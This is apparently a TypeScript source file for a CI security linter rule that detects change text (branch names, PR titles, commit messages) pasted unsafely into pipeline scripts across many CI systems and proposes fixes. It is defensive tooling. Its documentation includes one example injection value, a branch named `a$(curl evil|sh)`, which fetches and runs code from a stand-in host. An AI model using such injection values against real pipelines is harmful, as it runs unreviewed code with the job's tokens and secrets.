// Text that the author of a change chooses, pasted into a script before a shell sees it, in the systems that paste: a
// table of their notations. GitHub has its own rule, because its expressions are read as trees; GitLab and Bitbucket hand
// such text over as environment variables and paste nothing.
import { editing } from '../../server/engine/edit/suggest.ts';
import { placeOfMatch } from '../../server/engine/facts/script-lines.ts';
import { entryOf } from '../../server/engine/facts/value.ts';
import type { CiSystem, WorkflowStep } from '../../server/engine/facts/workflow.ts';
import { defineRule } from '../../server/engine/rule.ts';
import { inJenkinsShell, pastedByGroovy } from './through-variable.ts';

export const templateInjection = defineRule({
  id: 'ci/template-injection',
  meta: {
    title: 'Text of a change pasted into a script',
    category: 'workflow',
    severity: 'high',
    confidence: 'high',
    frameworks: ['NHI8:2025', 'PR.PS-06'],
    peers: ['poutine injection'],
    fix: 'suggestion',
    messages: {
      default:
        '{system} puts `{name}` into this script before the shell sees it, and whoever proposes a change writes it: a command in it runs with what this job holds{instead}',
      tag: '{system} puts the name of the tag, `{name}`, into this script before the shell sees it: whoever may push tags, and nobody else, writes it, and `v1$(…)` is one that git takes{instead}',
    },
    docs: {
      what: 'The title, branch, message or author of a change, in the notation by which Azure Pipelines, Jenkins, CircleCI, Buildkite, Drone, Woodpecker, Cloud Build or Tekton put text into a script.',
      why: 'The text becomes part of the script. A branch called `a$(curl evil|sh)` or a commit message with a quote in it then runs a command with the tokens and secrets of the job, and nobody has reviewed it.',
      remedy: 'Let the shell take the text from its environment, and quote the variable.',
      bad: [
        {
          file: 'azure-pipelines.yml',
          text: 'pr: [main]\njobs:\n  - job: build\n    steps:\n      - bash: echo "Building «$(System.PullRequest.SourceBranch)»"\n',
        },
        {
          file: 'Jenkinsfile',
          text: "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps {\n    sh \"echo «${env.CHANGE_TITLE}»\"\n  } } }\n}\n",
        },
      ],
      good: [
        {
          file: 'azure-pipelines.yml',
          text: 'pr: [main]\njobs:\n  - job: build\n    steps:\n      - bash: echo "Building $SYSTEM_PULLREQUEST_SOURCEBRANCH"\n',
        },
        {
          file: 'Jenkinsfile',
          text: "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps {\n    sh 'echo \"$CHANGE_TITLE\"'\n  } } }\n}\n",
        },
      ],
      references: [
        'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs',
        'https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation',
        'https://circleci.com/docs/pipeline-variables/',
        'https://buildkite.com/docs/pipelines/environment-variables',
        'https://docs.cloud.google.com/build/docs/configuring-builds/substitute-variable-values',
      ],
    },
  },
  on: {
    step(step, _job, workflow, context) {
      const known = notations[workflow.system];
      if (!known || known.skips?.(step)) return;
      for (const line of step.lines) {
        for (const match of line.text.matchAll(known.pattern)) {
          const at = placeOfMatch(line, match);
          const tag = ofTag.test(match[1]!);
          const instead = known.instead(match[0], match[1]!, step);
          context.report({
            at,
            message: tag ? 'tag' : 'default',
            data: { system: known.name, name: match[1]!, instead: instead === undefined ? '' : `; \`${instead}\` leaves it to the shell` },
            anchor: `${step.anchor}|${match[1]!.toLowerCase()}`,
            ...(tag ? { severity: 'low' as const } : {}),
            suggestions:
              instead === undefined
                ? []
                : [editing(`Leave it to the shell: ${instead}`, at.uri, () => [{ uri: at.uri, span: at.span, text: instead }])],
          });
        }
      }
    },
  },
});

/** Names of a tag: a change that is proposed has none. */
const ofTag = /(?:^|[._])tag(?:_name)?$/i;

interface Notation {
  readonly name: string;
  /** The token with the name in it. The names follow each system's list of variables, read in 2026-11. */
  readonly pattern: RegExp;
  /** The same text as a variable of the shell; undefined where there is none of that name. */
  instead(token: string, name: string, step: WorkflowStep): string | undefined;
  /** Steps in which nothing is pasted. */
  skips?(step: WorkflowStep): boolean;
}

/** `$$` stands for a dollar sign, which the shell then finds before the name. */
const escaped = (token: string): string => `$${token}`;

const notations: Partial<Record<CiSystem, Notation>> = {
  'azure-pipelines': {
    name: 'Azure Pipelines',
    pattern:
      /\$\((System\.PullRequest\.SourceBranch(?:Name)?|Build\.SourceBranch(?:Name)?|Build\.SourceVersion(?:Message|Author)|Build\.RequestedFor)\)/gi,
    instead(_token, name, step) {
      const variable = name.toUpperCase().replaceAll('.', '_');
      if (entryOf(step.value, 'pwsh') || entryOf(step.value, 'powershell')) return `$env:${variable}`;
      return entryOf(step.value, 'bash') ? `$${variable}` : undefined;
    },
  },
  circleci: {
    name: 'CircleCI',
    pattern:
      /<<\s*(pipeline\.git\.(?:branch|tag)|pipeline\.event\.github\.pull_request\.(?:title|body|head\.ref)|pipeline\.trigger_parameters\.\w+\.(?:branch|commit_message|commit_title|commit_author_name))\s*>>/g,
    instead: (_token, name) =>
      name === 'pipeline.git.branch' ? '$CIRCLE_BRANCH' : name === 'pipeline.git.tag' ? '$CIRCLE_TAG' : undefined,
  },
  jenkins: {
    name: 'Groovy',
    pattern:
      /(?:(?<!\\)\$\{(?:env\.)?|^env\.)(CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR_DISPLAY_NAME|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME|gitlabSourceBranch|gitlabMergeRequestTitle|ghprbPullTitle|ghprbSourceBranch)(?:\}|$)/g,
    instead: (token, name, step) => (token.startsWith('$') ? inJenkinsShell(name, step) : undefined),
    skips: (step) => !pastedByGroovy(step),
  },
  buildkite: {
    name: 'Buildkite',
    pattern: /(?<!\$)\$\{?(BUILDKITE_(?:MESSAGE|BRANCH|TAG|BUILD_AUTHOR|BUILD_CREATOR))\b\}?/g,
    instead: escaped,
  },
  // For a pull request, Drone's DRONE_BRANCH and DRONE_COMMIT_BRANCH and Woodpecker's CI_COMMIT_BRANCH are the branch that it
  // goes to, and the reference is `refs/pull/…`: whoever proposes a change writes none of them.
  drone: {
    name: 'Drone',
    pattern: /(?<!\$)\$\{((?:DRONE|CI)_(?:COMMIT_MESSAGE|COMMIT_AUTHOR_NAME|COMMIT_AUTHOR_EMAIL|SOURCE_BRANCH|PULL_REQUEST_TITLE|TAG))\}/g,
    instead: escaped,
  },
  woodpecker: {
    name: 'Woodpecker',
    pattern: /(?<!\$)\$\{(CI_(?:COMMIT_MESSAGE|COMMIT_SOURCE_BRANCH|COMMIT_AUTHOR(?:_EMAIL)?|COMMIT_TAG|COMMIT_PULL_REQUEST_LABELS))\}/g,
    instead: escaped,
  },
  'cloud-build': {
    name: 'Cloud Build',
    pattern: /(?<!\$)\$\{?(_HEAD_BRANCH|BRANCH_NAME|TAG_NAME|REF_NAME)\b\}?/g,
    instead: () => undefined,
    skips: ({ value }) => entryOf(value, 'script') !== undefined,
  },
  codefresh: {
    name: 'Codefresh',
    pattern:
      /\$\{\{\s*(CF_(?:COMMIT_MESSAGE|COMMIT_AUTHOR|BRANCH|PULL_REQUEST_(?:SOURCE|LABELS|HEAD_BRANCH)|RELEASE_NAME|RELEASE_TAG)(?:_ESCAPED)?)\s*\}\}/g,
    instead: (_token, name) => `$${name}`,
  },
  harness: {
    name: 'Harness',
    pattern:
      /<\+(codebase\.(?:prTitle|commitMessage|sourceBranch|branch|tag|gitUser|gitUserEmail)|trigger\.(?:sourceBranch|branch|commitMessage|prTitle|tag|payload\.(?:pull_request\.(?:title|body|head\.(?:ref|label))|head_commit\.message|comment\.body|issue\.(?:title|body)|object_attributes\.(?:title|description|source_branch|note))))>/g,
    instead: () => undefined,
  },
  // The shell of Windows puts variables in before it looks for the commands of a line.
  appveyor: {
    name: 'The shell of Windows',
    pattern: /%(APPVEYOR_(?:REPO_COMMIT_(?:MESSAGE(?:_EXTENDED)?|AUTHOR)|PULL_REQUEST_(?:TITLE|HEAD_REPO_BRANCH)))%/g,
    instead: () => undefined,
    skips: ({ value }) => ['ps', 'pwsh', 'sh'].some((shell) => entryOf(value, shell) !== undefined),
  },
  tekton: {
    name: 'Pipelines as Code',
    pattern:
      /\{\{\s*(body\.pull_request\.(?:title|body|head\.ref|head\.label)|body\.head_commit\.message|source_branch|git_tag|trigger_comment)\s*\}\}/g,
    instead: () => undefined,
  },
};
